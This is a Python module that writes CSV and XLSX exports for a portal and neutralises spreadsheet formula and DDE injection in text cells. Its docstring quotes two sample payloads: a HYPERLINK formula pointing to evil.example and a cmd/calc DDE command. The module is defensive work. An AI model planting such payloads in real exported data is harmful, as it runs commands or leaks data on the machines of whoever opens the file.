"""Spreadsheet files the portal writes (CSV and XLSX): a text cell is text, never a formula.

Names, positions and organisations come from schools and the public registry republishes them,
so a surname such as ``=HYPERLINK("http://evil.example/?…";"Открыть")`` or
``@SUM(1+1)*cmd|' /C calc'!A0`` must not become a live formula (or a DDE command) in whoever
opens the file. Every writer goes through this module:

- CSV: a text that a spreadsheet program would read as a formula gets a leading apostrophe, the
  mark that programs honour as "this is text" (OWASP's advice for CSV injection);
- XLSX: every text is an explicit string cell (never ``<f>``), and a formula-like one is also
  marked "quote prefix", so that editing the cell in Excel does not turn it into a formula.

Numbers and dates stay typed: only text is ever changed.
"""

import csv
import datetime
import io
import re
from collections.abc import Iterable

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE

# What starts a formula in Excel, LibreOffice or Google Sheets: "=", "+", "-" and "@" (Lotus
# syntax, which Excel still accepts); a leading tab or line break hides one from the eye and
# some programs skip it. The full-width forms are included because spreadsheet programs with an
# East Asian input method read "＝" as "=": the cost of an apostrophe on them is nil.
TRIGGERS = "=+-@\t\r\n＝＋－＠"
# The list separators of the locales the file may be opened in: Russian Excel opens a CSV on
# ";" (a comma-separated file's cell "x;=cmd" is two cells there), English Excel on ",".
SEPARATORS = ",;\t\r\n"
_INNER_FORMULA = re.compile(rf"([{SEPARATORS}][ ]*)(?=[{re.escape(TRIGGERS)}])")
CSV_DATE_FORMAT = "%d.%m.%Y"
XLSX_DATE_FORMAT = "DD.MM.YYYY"


def looks_like_formula(text: str) -> bool:
    """True when a spreadsheet program could read ``text`` as a formula.

    Leading spaces do not protect a formula in every program, so the first character after
    them counts; a tab or a line break at the very start counts on its own.
    """
    if not text:
        return False
    if text[0] in "\t\r\n":
        return True
    stripped = text.lstrip(" ")
    return bool(stripped) and stripped[0] in TRIGGERS


def csv_value(value):
    """One CSV cell: a formula-like text behind an apostrophe, a date as ДД.ММ.ГГГГ, a number as
    it is."""
    if isinstance(value, str):
        # A separator of another locale followed by a formula would start a new, live cell when
        # the file is opened with that separator: the apostrophe goes there too. Searched
        # first, as most text has none and the substitution costs more than the search.
        if _INNER_FORMULA.search(value):
            value = _INNER_FORMULA.sub(r"\1'", value)
        return "'" + value if looks_like_formula(value) else value
    if isinstance(value, datetime.datetime | datetime.date):
        return value.strftime(CSV_DATE_FORMAT)
    return value


def csv_bytes(rows: Iterable[Iterable], *, delimiter: str = ",") -> bytes:
    """UTF-8 CSV with a byte-order mark (so that spreadsheet programs read the Cyrillic);
    ``delimiter=";"`` for the variant that Excel in a Russian locale opens by double-click."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    for row in rows:
        writer.writerow(map(csv_value, row))
    return buffer.getvalue().encode("utf-8-sig")


def xlsx_cell(sheet, value):
    """What a write-only sheet is given for one value: text as a string cell (never a formula),
    dates and numbers typed.

    Text that openpyxl itself stores as that very string cell (nothing formula-like, no error
    code, no control character) and numbers are given as they are: the sheet binds them exactly
    as it binds a cell made for them, and a cell object per value was most of the time of
    writing a large file. Anything else is made a cell here.
    """
    if isinstance(value, str):
        if not (
            looks_like_formula(value)  # includes openpyxl's own test for a formula, "=…"
            or value in ERROR_CODES
            or ILLEGAL_CHARACTERS_RE.search(value)
        ):
            return value
        # Control characters are not allowed in the file (openpyxl would raise): dropped.
        cell = WriteOnlyCell(sheet, ILLEGAL_CHARACTERS_RE.sub("", value))
        # openpyxl's value setter reads "=…" as a formula and "#N/A" as an error: undone.
        cell.data_type = "s"
        if looks_like_formula(value):
            cell.quotePrefix = True
        return cell
    if isinstance(value, datetime.date):
        cell = WriteOnlyCell(sheet, value)
        cell.number_format = XLSX_DATE_FORMAT
        return cell
    return value


def xlsx_bytes(title: str, rows: Iterable[Iterable]) -> bytes:
    """A one-sheet workbook named ``title`` (at most 31 characters, as Excel allows)."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title[:31])
    for row in rows:
        sheet.append([xlsx_cell(sheet, value) for value in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def protect_wagtail_exports() -> None:
    """Make Wagtail's own CSV downloads (site history and the other reports, any list with
    ``list_export``) write formula-like text behind an apostrophe too.

    Wagtail already writes XLSX text as string cells, but its CSV writes text as it is, and
    those views are Wagtail's, not ours: the one place to hook them is the mixin they share.
    """
    # Imported here: Wagtail's admin views load models, and the writers above need none.
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    original = SpreadsheetExportMixin.preprocess_field_value
    if getattr(original, "neutralises_formulas", False):
        return

    def preprocess_field_value(self, field, value, export_format):
        value = original(self, field, value, export_format)
        if export_format == self.FORMAT_CSV and isinstance(value, str):
            return csv_value(value)
        return value

    preprocess_field_value.neutralises_formulas = True
    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
